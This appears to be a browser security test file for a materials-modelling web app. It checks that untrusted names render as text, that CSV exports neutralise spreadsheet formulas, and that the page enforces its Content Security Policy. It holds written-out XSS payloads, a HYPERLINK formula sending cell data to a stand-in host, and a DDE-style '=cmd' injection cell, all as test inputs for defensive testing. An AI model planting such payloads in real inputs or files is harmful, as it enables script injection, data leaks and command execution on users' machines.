// The browser's security model: names and metadata from anyone's files are shown as text
// everywhere (no script runs), exports cannot act as spreadsheet formulas.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { launch, open, serve, settled, showPage, ROOT } from './harness.mjs';

const CLI = process.env.MIXLAB_CLI ?? join(ROOT, 'target/debug/mixlab');
const cli = (...args) => execFileSync(CLI, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });

// Each would set window.__xss (or open a dialog) if the page ran it.
const EVIL = [
  '<img src=x onerror=window.__xss=1>',
  '<script>window.__xss=2</script>',
  '<svg onload=window.__xss=3>',
  '<a href=javascript:window.__xss=4>link</a>',
  '=HYPERLINK("http://evil.example/?"&A1;"click")',
];
const TARGET = '<b onmouseover=window.__xss=5>strength</b>';

describe('untrusted names and metadata', () => {
  let dir, site, browser;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'mixlab-security-'));
    cli('synthetic', '--materials', '30', '--groups', '3', '--recipes', '400', '--per-recipe', '3,6',
      '--out', join(dir, 'syn.csv'), '--groups-out', join(dir, 'groups.csv'));
    const rename = (text) => EVIL.reduce((t, e, i) => t.replaceAll(`m000${i},`, `"${e.replaceAll('"', '""')}",`), text);
    const data = rename(readFileSync(join(dir, 'syn.csv'), 'utf8')).replace(',property,', `,${TARGET},`);
    writeFileSync(join(dir, 'evil.csv'), data);
    const groups = rename(readFileSync(join(dir, 'groups.csv'), 'utf8')).replace(/,g0$/gm, ',<img src=y onerror=window.__xss=6>');
    writeFileSync(join(dir, 'groups-evil.csv'), groups);
    cli('train', '--data', join(dir, 'evil.csv'), '--targets', TARGET, '--code-dim', '4', '--steps', '60',
      '--snapshots', '3', '--members', '1', '--materials-info', join(dir, 'groups-evil.csv'),
      '--name', '<img src=z onerror=window.__xss=7>', '--out', join(dir, 'evil'));
    site = await serve({ mounts: [['/evil/', join(dir, 'evil')]] });
    browser = await launch({ webgpu: false });
  });
  after(async () => {
    await browser?.close();
    await site?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  test('are shown as text everywhere and no script runs', async () => {
    const { page, errors } = await open(browser.context, `${site.url}?model=evil/&backend=cpu`);
    const dialogs = [];
    page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss(); });
    assert.equal(await settled(page), 'ready');
    const manifest = JSON.parse(readFileSync(join(dir, 'evil/manifest.json'), 'utf8'));
    const names = manifest.materials.map((m) => m.name);
    for (const e of EVIL) assert.ok(names.includes(e), `bundle has ${e}`);
    // The model's name, the target and the materials as typed, in the page's text.
    const body = await page.innerText('body');
    assert.ok(body.includes('<img src=z onerror=window.__xss=7>'), 'model name as text');
    assert.ok(body.includes(TARGET), 'target name as text');
    // Put the evil materials in the formulation, so the editor, the charts and the analysis show them.
    await showPage(page, 'explore');
    await page.waitForSelector('#explorer[data-draws]', { timeout: 60_000 });
    for (const e of EVIL.slice(0, 3)) {
      await page.fill('#explorer-search', e);
      await page.dispatchEvent('#explorer-search', 'change');
      await page.waitForFunction(() => document.querySelectorAll('#explorer-neighbours li').length > 0);
    }
    await page.selectOption('#explorer-colour', 'meta:group');
    await page.selectOption('#explorer-dims', '3');
    await page.waitForFunction(() => document.getElementById('explorer').dataset.spec === 'pca.3');
    await page.selectOption('#explorer-dims', '2');
    await page.waitForFunction(() => document.getElementById('explorer').dataset.spec === 'pca.2');
    // Hover every point: plotly builds the hover labels from the names and metadata.
    const plot = await page.evaluate(() => {
      const gd = document.getElementById('explorer-plot');
      gd.scrollIntoView();
      const r = gd.getBoundingClientRect();
      const { xaxis, yaxis, _size } = gd._fullLayout;
      return gd.data[0].x.map((x, i) => [r.left + _size.l + xaxis.l2p(x), r.top + _size.t + yaxis.l2p(gd.data[0].y[i])]);
    });
    let hovered = '';
    for (const [x, y] of plot.slice(0, 12)) {
      await page.mouse.move(x, y);
      await new Promise((r) => setTimeout(r, 60));
      hovered += await page.$$eval('.hoverlayer', (l) => l.map((e) => e.textContent).join(' '));
    }
    assert.ok(EVIL.slice(0, 4).some((e) => hovered.includes(e)), `hover labels show the names as typed: ${hovered.slice(0, 300)}`);
    await page.selectOption('#explorer-method', 'tsne');
    await page.waitForFunction(() => document.getElementById('explorer').dataset.spec?.startsWith('tsne') && document.getElementById('explorer').dataset.job === 'idle', null, { timeout: 60_000 });
    // Add the first materials to the formulation from a link (names escaped in it by the app).
    await page.goto(`${site.url}?backend=cpu&model=evil/#x=1&proj=pca.2&sel=0-29`);
    await settled(page);
    await page.waitForSelector('#explorer[data-draws]', { timeout: 60_000 });
    await page.click('#explorer-add');
    await showPage(page, 'predict');
    await page.waitForFunction((e) => document.body.innerText.includes(e), EVIL[0]);
    // A CSV naming unknown evil materials: the report lists them as text.
    await showPage(page, 'score');
    const file = join(dir, 'upload.csv');
    writeFileSync(file, `id,${TARGET},"<img src=q onerror=window.__xss=8>"\n"<script>window.__xss=10</script>",1,1\n`);
    await page.setInputFiles('#batch-file', file);
    await page.waitForFunction(() => ['failed', 'report'].includes(document.getElementById('batch').dataset.phase), null, { timeout: 60_000 });
    assert.ok((await page.innerText('#batch')).includes('<img src=q onerror=window.__xss=8>'), 'the report shows the name as text');

    assert.equal(await page.evaluate(() => window.__xss), undefined, 'no injected script ran');
    assert.deepEqual(dialogs, []);
    // No element came from a name: every <img>, <script>, <svg onload> and javascript: link
    // in the page is the app's own.
    const injected = await page.evaluate(() => [
      ...document.querySelectorAll('img[src=x], img[src=y], img[src=z], img[src=q], [onerror], [onload], [onmouseover], a[href^="javascript:"]'),
    ].map((e) => e.outerHTML));
    assert.deepEqual(injected, []);
    const scripts = await page.$$eval('script', (s) => s.map((e) => e.textContent).filter((t) => t.includes('__xss')));
    assert.deepEqual(scripts, []);
    assert.deepEqual(errors.filter((e) => !e.includes('404')), []);
    await page.close();
  });

  test('exports neutralise spreadsheet formulas (CLI and app)', async () => {
    const formula = EVIL[4];
    // The explorer's CSV of coordinates, downloaded from the app.
    const { page } = await open(browser.context, `${site.url}?model=evil/&backend=cpu#x=1&proj=pca.2`);
    await settled(page);
    await page.waitForSelector('#explorer[data-draws]', { timeout: 60_000 });
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#explorer-csv')]);
    const text = Buffer.concat(await (await download.createReadStream()).toArray()).toString();
    assert.ok(text.includes(`"'${formula.replaceAll('"', '""')}"`), text.slice(0, 400));
    assert.ok(!text.split('\n').some((l) => /^"?[=+@]/.test(l)), 'no line starts with a formula');
    // A scored file whose ids and cells are formulas: the download has them as text.
    const file = join(dir, 'formulas.csv');
    const materials = JSON.parse(readFileSync(join(dir, 'evil/manifest.json'), 'utf8')).materials.map((m) => m.name);
    const plain = materials.filter((m) => /^m\d+$/.test(m)).slice(0, 2);
    writeFileSync(file, `id,${plain[0]},${plain[1]},note\n"=cmd|' /C calc'!A0",60,40,@SUM(1+1)\n-5,50,50,+1+1\n`);
    await showPage(page, 'score');
    await page.setInputFiles('#batch-file', file);
    await page.waitForSelector('#batch[data-phase=done] #batch-summary', { timeout: 60_000 });
    const [scored] = await Promise.all([page.waitForEvent('download'), page.click('#batch-download')]);
    const out = Buffer.concat(await (await scored.createReadStream()).toArray()).toString();
    const rows = out.trim().split('\n');
    assert.ok(rows[1].startsWith("'=cmd|' /C calc'!A0,"), rows[1]);
    assert.ok(rows[1].includes(",'@SUM(1+1),"), rows[1]);
    assert.ok(rows[2].startsWith('-5,'), 'a negative number stays a number');
    assert.ok(rows[2].includes(",'+1+1,"), rows[2]);
    // The CLI writes the same file (predictions equal to f32 rounding).
    const native = cli('score', '--bundle', join(dir, 'evil'), '--data', file).trim().split('\n');
    assert.equal(native.length, rows.length);
    native.forEach((line, r) => {
      const [a, b] = [line.split(','), rows[r].split(',')];
      assert.equal(a.length, b.length);
      a.forEach((cell, c) => {
        if (r > 0 && c === 4) assert.ok(Math.abs(Number(cell) - Number(b[c])) < 1e-5, `${cell} vs ${b[c]}`);
        else assert.equal(cell, b[c], `row ${r} cell ${c}`);
      });
    });
    await page.close();
  });

  test('a whole session asks only this site, runs under the CSP and violates nothing', async () => {
    const { context } = browser;
    const requests = [];
    const record = (r) => requests.push(r.url());
    context.on('request', record);
    await context.addInitScript(() => {
      window.__violations = [];
      document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
    });
    const { page, errors } = await open(context, `${site.url}?backend=cpu`);
    assert.equal(await settled(page), 'ready');
    // The policy is the page's and is in force: no inline script, no eval.
    const csp = await page.$eval('meta[http-equiv=Content-Security-Policy]', (m) => m.content);
    const scriptSrc = csp.split(';').find((d) => d.trim().startsWith('script-src'));
    assert.equal(scriptSrc.trim(), "script-src 'self' 'wasm-unsafe-eval'");
    assert.equal(await page.$$eval('script:not([src])', (s) => s.length), 0, 'no inline script');
    // (DevTools' own evaluation is exempt from the policy, so the page is made to try.)
    await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__inline = 1';
      document.head.append(s);
      setTimeout('window.__evaluated = 1', 0);
    });
    await new Promise((r) => setTimeout(r, 200));
    assert.deepEqual(await page.evaluate(() => [window.__inline, window.__evaluated]), [undefined, undefined]);
    const refused = await page.evaluate(() => window.__violations.splice(0).map((v) => v.split(' ')[0]));
    assert.deepEqual(refused.sort(), ['script-src-elem', 'script-src'].sort());
    // Chromium reports both refusals on the console too; they are the only expected errors.
    assert.ok(errors.splice(0).every((e) => e.includes('violates the following Content Security Policy')));
    // Edit.
    const row = await page.$('#formulation tr.material input[type=number]');
    await row.fill('5');
    await row.press('Enter');
    // Score the example file.
    await showPage(page, 'score');
    await page.click('#batch-example');
    await page.waitForSelector('#batch[data-phase=done] #batch-summary', { timeout: 120_000 });
    // Project: the explorer, a UMAP computed in its worker, a comparison with another model.
    await showPage(page, 'explore');
    await page.waitForSelector('#explorer[data-draws]', { timeout: 60_000 });
    await page.selectOption('#explorer-method', 'umap');
    await page.fill('#explorer-seed', '5');
    await page.dispatchEvent('#explorer-seed', 'change');
    await page.waitForFunction(() => document.getElementById('explorer').dataset.origin === 'computed' && document.getElementById('explorer').dataset.job === 'idle', null, { timeout: 120_000 });
    await page.selectOption('#explorer-compare', 'model:models/glass-tg/');
    await page.waitForFunction(() => document.getElementById('explorer').dataset.compareModel?.startsWith('Oxide'), null, { timeout: 60_000 });
    await page.selectOption('#explorer-dims', '3');
    await page.waitForFunction(() => document.getElementById('explorer').dataset.spec?.startsWith('umap.3'), null, { timeout: 120_000 });
    // Share: the link reopens in another tab.
    const link = await page.$eval('#explorer-link', (i) => i.value);
    const again = await open(context, link);
    assert.equal(await settled(again.page), 'ready');
    await again.page.waitForSelector('#explorer[data-draws]', { timeout: 120_000 });

    const origin = new URL(site.url).origin;
    const foreign = requests.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith(`blob:${origin}/`) && !u.startsWith('data:'));
    assert.deepEqual(foreign, [], 'every request went to the page\'s own site');
    assert.ok(requests.some((u) => u.includes('weights.safetensors')) && requests.some((u) => u.startsWith('blob:')), 'the session was recorded');
    for (const p of [page, again.page]) assert.deepEqual(await p.evaluate(() => window.__violations), []);
    assert.deepEqual(errors.concat(again.errors), []);
    context.off('request', record);
    await again.page.close();
    await page.close();
  });
});

